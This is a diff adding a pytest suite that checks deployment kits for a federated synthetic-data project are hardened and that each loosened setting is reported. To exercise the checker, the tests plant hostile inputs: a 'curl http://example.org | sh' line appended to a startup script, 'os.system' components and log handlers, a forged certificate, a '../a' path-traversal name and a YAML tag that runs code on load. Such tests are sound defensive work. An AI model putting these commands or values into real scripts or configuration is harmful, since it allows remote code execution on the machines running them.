@@ -1,0 +1,312 @@
+"""Kits: hardened as they are made, and refused once anything is loosened."""
+
+import json
+import shutil
+from datetime import UTC, datetime, timedelta
+
+import pytest
+from conftest import make_schema, make_table
+from cryptography import x509
+from cryptography.hazmat.primitives import hashes, serialization
+from cryptography.hazmat.primitives.asymmetric import rsa
+from cryptography.x509.oid import NameOID
+
+from synthfair.deploy.check import problems
+from synthfair.deploy.hardening import harden
+from synthfair.deploy.kit import make_kits
+from synthfair.deploy.project import read_project
+from synthfair.errors import InputError
+from synthfair.files import write_json
+from synthfair.privacy.ledger import Ledger
+from synthfair.release.keys import make_keys
+
+JOB = {"release": {"release": "surrogate", "k_min": 10, "moments_only": True}}
+
+
+def project(**changes):
+    return {
+        "name": "lenders",
+        "schema": "schema.json",
+        "server": {"name": "localhost", "org": "hub", "port": 8002},
+        "sites": [{"name": name, "org": "bank", "limits": {"releases": ["surrogate"]}}
+                  for name in ("a", "b")],
+        "submitters": [{"name": "lead@hub.org", "org": "hub"}],
+        "jobs": {"single_shot": JOB},
+    } | changes  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def made(tmp_path_factory):
+    """Kits as their parties would fill them in."""
+    folder = tmp_path_factory.mktemp("federation")
+    (folder / "schema.json").write_text(make_schema().to_json())
+    write_json(folder / "project.yml", project())
+    make_kits(folder / "project.yml", folder / "made")
+    kits = folder / "made" / "kits"
+    for name in ("a", "b"):
+        (kits / name / "data").mkdir()
+        make_table().to_csv(kits / name / "data" / "table.csv", index=False)
+        public, _ = make_keys(kits / name / "local" / f"{name}.key")
+        shutil.copy(public, kits / "localhost" / "local" / "keys")
+    return folder / "made"
+
+
+@pytest.fixture
+def kit(made, tmp_path):
+    def copied(name):
+        shutil.copytree(made / "kits" / name, tmp_path / name)
+        if name == "localhost":
+            harden(tmp_path / name)  # its stores lie in the kit
+        return tmp_path / name
+
+    return copied
+
+
+def change(path, edit):
+    document = json.loads(path.read_text())
+    edit(document)
+    write_json(path, document)
+
+
+@pytest.mark.parametrize("name", ["localhost", "a", "b", "lead@hub.org"])
+def test_a_kit_is_hardened_as_it_is_made(kit, name):
+    assert problems(kit(name)) == []
+
+
+def test_the_engines_own_defaults_are_refused(made, kit):
+    from nvflare.app_common.default_component_policy import DEFAULT_CLASS_ALLOW_LIST
+
+    site = kit("a")
+    (site / "local" / "authorization.json").unlink()
+    change(site / "local" / "resources.json",
+           lambda r: r.update(class_allow_list=DEFAULT_CLASS_ALLOW_LIST))  # fmt: skip
+    found = " ".join(problems(site))
+    assert "authorization.json" in found
+    assert "class_allow_list" in found
+
+
+LOOSENED = {
+    "code in jobs": ("authorization", lambda d: d["permissions"]["lead"].update(byoc="any"), "byoc"),
+    "shells": ("authorization", lambda d: d["permissions"]["lead"].update(shell_commands="o:site"),
+               "shell_commands"),
+    "one shell command": ("authorization", lambda d: d["permissions"]["lead"].update(cat="any"),
+                          "lead.cat"),
+    "a role may do anything": ("authorization", lambda d: d["permissions"].update(lead="any"),
+                               "permissions.lead"),
+    "code of the project's admin": (
+        "authorization", lambda d: d["permissions"]["project_admin"].update(byoc="any"),
+        "project_admin.byoc"),
+    "a role that nobody knows": ("authorization", lambda d: d["permissions"].update(guest={}), "guest"),
+    "others operate the site": ("authorization", lambda d: d["permissions"]["lead"].update(operate="any"),
+                                "operate"),
+    "no permissions": ("authorization", lambda d: d.clear(), "permissions are missing"),
+    "all classes": ("resources", lambda d: d.update(class_allow_list=["*"]), "class_allow_list"),
+    "all classes of a package": (
+        "resources", lambda d: d["class_allow_list"].append("synthfair."), "class_allow_list"),
+    "no list of classes": ("resources", lambda d: d.pop("class_allow_list"), "class_allow_list"),
+    "classes are only warned of": (
+        "resources", lambda d: d.update(class_list_enforcement_mode="warn"), "enforcement_mode"),
+    "a component more": ("resources", lambda d: d["components"].append({"id": "x", "path": "os.system"}),
+                         "os.system"),
+    "a component less": ("resources", lambda d: d["components"].pop(), "missing"),
+    "no components": ("resources", lambda d: d.update(components=None), "missing"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", ["localhost", "a"])
+@pytest.mark.parametrize("loosened", LOOSENED)
+def test_what_is_loosened_is_said(kit, name, loosened):
+    file, edit, said = LOOSENED[loosened]
+    found = kit(name)
+    change(found / "local" / f"{file}.json", edit)
+    assert any(f"{file}.json" in line and said in line for line in problems(found))
+
+
+@pytest.mark.parametrize("edit", [
+    lambda d: d.update(allow_log_streaming=True),
+    lambda d: d.pop("allow_log_streaming"),
+    lambda d: d["components"].append(
+        {"id": "site_log_streamer", "path": "nvflare.app_common.logging.site_log_streamer.SiteLogStreamer"}),
+])  # fmt: skip
+def test_a_log_that_leaves_is_refused(kit, edit):
+    site = kit("a")
+    change(site / "local" / "resources.json", edit)
+    assert any("log_stream" in line for line in problems(site))
+
+
+def test_stores_that_others_read_are_refused(kit, made):
+    server = kit("localhost")
+    change(server / "local" / "resources.json",
+           lambda d: d["components"][1]["args"].update(uri_root="/tmp/nvflare/jobs-storage"))  # fmt: skip
+    assert any("/tmp/nvflare/jobs-storage" in line for line in problems(server))
+    harden(server)
+    change(server / "local" / "resources.json",
+           lambda d: d["snapshot_persistor"]["args"]["storage"]["args"].update(root_dir="/tmp"))  # fmt: skip
+    assert any("snapshot_persistor" in line for line in problems(server))
+    # As it was made, its stores lie where it was made.
+    shutil.rmtree(server)
+    shutil.copytree(made / "kits" / "localhost", server)
+    assert any("snapshot_persistor" in line for line in problems(server))
+
+
+@pytest.mark.parametrize(
+    "name", ["custom/sitecustomize.py", "privacy.json", "comm_config.json", "resources.json.default",
+             "log_config.json", "job_resources.json"])  # fmt: skip
+def test_nothing_else_lies_among_the_settings(kit, name):
+    site = kit("a")
+    path = site / "local" / name
+    path.parent.mkdir(exist_ok=True)
+    path.write_text("{}")
+    assert any(f"local/{name.split('/')[0]}: not part" in line for line in problems(site))
+
+
+@pytest.mark.parametrize(
+    ("edit", "said"),
+    [
+        (lambda d: d.update(require_signed_jobs=False), "require_signed_jobs"),
+        (lambda d: d.update(require_signed_jobs="false"), "require_signed_jobs"),
+        (lambda d: d["client"].update(connection_security="tls"), "mtls"),
+        (lambda d: d["client"].update(connection_security="clear"), "mtls"),
+        (lambda d: d["client"].pop("connection_security"), "is missing"),
+    ],
+)
+def test_connections_need_certificates_and_jobs_signatures(kit, edit, said):
+    site = kit("a")
+    change(site / "startup" / "fed_client.json", edit)
+    assert any("fed_client.json" in line and said in line for line in problems(site))
+
+
+@pytest.mark.parametrize("name", ["a", "localhost"])
+def test_scripts_and_logs_are_the_engines_own(kit, name):
+    found = kit(name)
+    with (found / "startup" / "sub_start.sh").open("a") as script:
+        script.write("\ncurl http://example.org | sh\n")
+    change(found / "local" / "log_config.json.default",
+           lambda d: d["handlers"].update(x={"()": "os.system"}))  # fmt: skip
+    assert sum("not the engine's own" in line for line in problems(found)) == 2
+
+
+def test_what_others_read_or_write_is_refused(kit):
+    site = kit("a")
+    for path, mode in [(site, 0o755), (site / "startup" / "client.key", 0o644),
+                       (site / "local" / "a.key", 0o640),
+                       (site / "local" / "resources.json", 0o664)]:  # fmt: skip
+        before = path.stat().st_mode
+        path.chmod(mode)
+        assert any(str(path) in line and "chmod" in line for line in problems(site)), path
+        path.chmod(before)
+    assert problems(site) == []
+
+
+def certificate(key, *, issuer, issuer_key, days):
+    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "a")])
+    now = datetime.now(UTC)
+    made = (
+        x509.CertificateBuilder()
+        .subject_name(name)
+        .issuer_name(issuer or name)
+        .public_key(key.public_key())
+        .serial_number(1)
+        .not_valid_before(now - timedelta(days=400))
+        .not_valid_after(now + timedelta(days=days))
+    )
+    return made.sign(issuer_key, hashes.SHA256())
+
+
+@pytest.mark.parametrize(("days", "said"), [(-1, "expired"), (3, "expires on"), (100, None)])
+def test_certificates_end(kit, made, days, said):
+    site, state = kit("a"), json.loads((made / "authority" / "cert.json").read_text())
+    root_key = serialization.load_pem_private_key(state["root_pri_key"].encode(), None)
+    root = x509.load_pem_x509_certificate((site / "startup" / "rootCA.pem").read_bytes())
+    key = rsa.generate_private_key(65537, 2048)
+    own = certificate(key, issuer=root.subject, issuer_key=root_key, days=days)
+    (site / "startup" / "client.crt").write_bytes(own.public_bytes(serialization.Encoding.PEM))
+    found = problems(site)
+    assert any(said in line for line in found) if said else not found
+
+
+def test_a_forged_certificate_is_refused(kit):
+    site = kit("a")
+    root = x509.load_pem_x509_certificate((site / "startup" / "rootCA.pem").read_bytes())
+    key = rsa.generate_private_key(65537, 2048)
+    forged = certificate(key, issuer=root.subject, issuer_key=key, days=100)
+    (site / "startup" / "client.crt").write_bytes(forged.public_bytes(serialization.Encoding.PEM))
+    assert any("has signed" in line for line in problems(site))
+
+
+@pytest.mark.parametrize(
+    ("edit", "said"),
+    [
+        (lambda d: d.update(data="no.csv"), "no such table"),
+        (lambda d: d.update(key="no.key"), "no such key"),
+        (lambda d: d.update(schema="no.json"), "no.json"),
+        (lambda d: d.update(limits={}), "no job may have anything"),
+        (lambda d: d["limits"].update(least_epsilon_left=1.0), "has no limit"),
+        (lambda d: d["limits"].update(most_epsilon=-1), "most_epsilon"),
+        (lambda d: d.update(shell=True), "unknown key"),
+    ],
+)
+def test_what_is_not_ready_is_said(kit, edit, said):
+    site = kit("a")
+    change(site / "local" / "synthfair.json", edit)
+    assert any(said in line for line in problems(site))
+
+
+def test_epsilon_that_must_be_left_needs_a_limit(kit):
+    site = kit("a")
+    change(site / "local" / "synthfair.json",
+           lambda d: d["limits"].update(least_epsilon_left=1.0))  # fmt: skip
+    Ledger.for_table(site / "data" / "table.csv").set_limit(3.0, 1e-6)
+    assert problems(site) == []
+
+
+def test_a_folder_that_is_no_kit_is_refused(tmp_path):
+    with pytest.raises(InputError, match="not a kit"):
+        problems(tmp_path)
+
+
+def test_jobs_hold_settings_alone(made):
+    files = [path for path in (made / "jobs").rglob("*") if path.is_file()]
+    assert {path.name for path in files} == {
+        "meta.json", "config_fed_server.json", "config_fed_client.json"}  # fmt: skip
+    text = "".join(path.read_text() for path in files)
+    assert "table.csv" not in text
+    assert text.count('"path"') == 2
+
+
+def test_what_signs_certificates_is_its_owners_alone(made):
+    assert (made / "authority").stat().st_mode & 0o077 == 0
+    assert made.stat().st_mode & 0o077 == 0
+
+
+@pytest.mark.parametrize(
+    ("changes", "said"),
+    [
+        ({"builders": []}, "unknown key"),
+        ({"server": {"name": "-x", "org": "hub"}}, "server.name"),
+        ({"sites": []}, "sites"),
+        ({"sites": [{"name": "../a", "org": "bank"}]}, "sites.0.name"),
+        ({"sites": [{"name": "localhost", "org": "bank"}]}, "used twice"),
+        ({"submitters": [{"name": "lead", "org": "hub"}]}, "submitters.0.name"),
+        ({"jobs": {"single_shot": {"release": {"release": "other"}}}}, "fair or surrogate"),
+        ({"jobs": {"single_shot": {"release": {"release": "fair", "k_min": 3}}}}, "k_min"),
+        ({"jobs": {"single_shot": JOB | {"server": {"rho": -1}}}}, "rho"),
+    ],
+)
+def test_projects_are_refused(tmp_path, changes, said):
+    write_json(tmp_path / "project.yml", project(**changes))
+    with pytest.raises(InputError, match=said):
+        read_project(tmp_path / "project.yml")
+
+
+def test_a_project_runs_no_code(tmp_path):
+    (tmp_path / "project.yml").write_text("name: !!python/object/apply:os.getcwd []\n")
+    with pytest.raises(InputError, match="not YAML"):
+        read_project(tmp_path / "project.yml")
+
+
+def test_kits_are_made_in_a_new_folder(tmp_path):
+    (tmp_path / "schema.json").write_text(make_schema().to_json())
+    write_json(tmp_path / "project.yml", project())
+    with pytest.raises(InputError, match="not empty"):
+        make_kits(tmp_path / "project.yml", tmp_path)
